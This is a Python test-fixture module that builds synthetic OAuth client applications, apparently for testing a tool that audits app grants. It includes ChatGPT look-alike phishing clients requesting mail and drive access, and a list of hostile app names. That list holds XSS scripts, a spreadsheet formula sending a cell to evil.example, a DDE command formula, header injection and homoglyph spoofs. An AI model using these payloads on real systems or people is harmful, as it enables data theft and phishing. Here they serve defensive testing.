"""Reads the tables under `data/`: applications, people's names, departments."""

from dataclasses import dataclass
from functools import cache
from pathlib import Path
from random import Random

from .model import App, client_id_for
from .scopes import expand

DATA = Path(__file__).parent / "data"


@dataclass(slots=True, frozen=True)
class Department:
    """A department, its organisational unit, its share of the staff and its titles (the head's first)."""

    name: str
    unit: str
    share: float
    titles: tuple[str, ...]


def _rows(name: str) -> list[list[str]]:
    lines = (DATA / name).read_text("utf-8").splitlines()
    return [[cell.strip() for cell in line.split("|")] for line in lines if line and not line.startswith("#")]


@cache
def known_apps() -> tuple[App, ...]:
    """The applications of `data/apps.txt`."""
    apps = []
    for name, vendor, domain, kind, weight, normal, broad, *rest in _rows("apps.txt"):
        sets = (expand(normal), expand(broad))
        client_type = rest[0] if rest else "WEB"
        client_id = client_id_for(name)
        apps.append(App(client_id, name, vendor, domain, kind == "ai", sets, float(weight), client_type))
    return tuple(apps)


@cache
def departments() -> tuple[Department, ...]:
    """The departments of `data/departments.txt`."""
    return tuple(
        Department(name, unit, float(share), tuple(t.strip() for t in titles.split(",")))
        for name, unit, share, titles in _rows("departments.txt")
    )


@cache
def people_names() -> tuple[tuple[str, ...], tuple[str, ...]]:
    """Given and family names."""
    lines = (DATA / "people.txt").read_text("utf-8").splitlines()
    given, family = (tuple(line.split(":", 1)[1].split()) for line in lines if line)
    return given, family


def look_alikes() -> tuple[App, ...]:
    """Two clients that pretend to be ChatGPT: by words, and by a Cyrillic letter in place of P."""
    return tuple(
        App(
            client_id_for(f"look-alike {name}"),
            name,
            "",
            domain,
            False,
            (expand(scopes),),
            0.0,
            lookalike=True,
        )
        for name, domain, scopes in (
            ("Chat GPT - OpenAI Official", "chatgpt-login.app", "signin gmail_r drive_r contacts_r"),
            (
                "Chat\u0413\u0420\u0422".replace("\u0413", "G").replace("\u0422", "T"),
                "chatgpt.tools",
                "gmail_full drive",
            ),
        )
    )


HOSTILE_NAMES = (
    '<img src=x onerror="alert(1)">',
    "</script><script>alert('x')</script>",
    "Invoice \u202egpj.exe\u202c viewer",
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Budget\r\nSet-Cookie: admin=1\r\n\r\nhello",
    "Goog\u0131e Drive",
    "G\u043e\u043egle Workspace Security",
    "{{7*7}} ${7*7} %s %n",
    "nul\x00byte \x1b[31mred\x1b[0m",
    "<https://evil.example|Click here> *bold* @channel",
    "A\u0300\u0301\u0302\u0303" * 40 + " zalgo",
    "long " * 2000,
    " ",
)


def hostile_apps() -> tuple[App, ...]:
    """Clients with names that try to break whoever shows them."""
    scopes = (expand("signin gmail_r"),)
    return tuple(
        App(client_id_for(f"hostile {i}"), name, "", "evil.example", False, scopes, 0.3)
        for i, name in enumerate(HOSTILE_NAMES)
    )


LONG_TAIL = (
    (
        "Swift",
        "Bright",
        "Open",
        "Team",
        "Blue",
        "Quick",
        "Prime",
        "Daily",
        "Smart",
        "Cloud",
        "North",
        "Pixel",
    ),
    (
        "Notes",
        "Forms",
        "Sync",
        "Mail",
        "Board",
        "Sheets",
        "Signer",
        "Tracker",
        "Planner",
        "Survey",
        "Desk",
        "Chart",
    ),
)


def long_tail(count: int, seed: int) -> tuple[App, ...]:
    """`count` small unknown applications, as any large organisation has."""
    rng = Random(seed)
    apps = []
    for i in range(count):
        name = f"{rng.choice(LONG_TAIL[0])} {rng.choice(LONG_TAIL[1])} {i + 1}"
        normal = rng.choice(("signin", "signin", "signin drive_file", "signin cal_r", "signin sheets"))
        sets = (expand(normal), expand(normal + " drive_r"))
        domain = name.lower().replace(" ", "-") + ".example"
        apps.append(App(client_id_for(f"tail {seed} {name}"), name, "", domain, False, sets, 0.4))
    return tuple(apps)
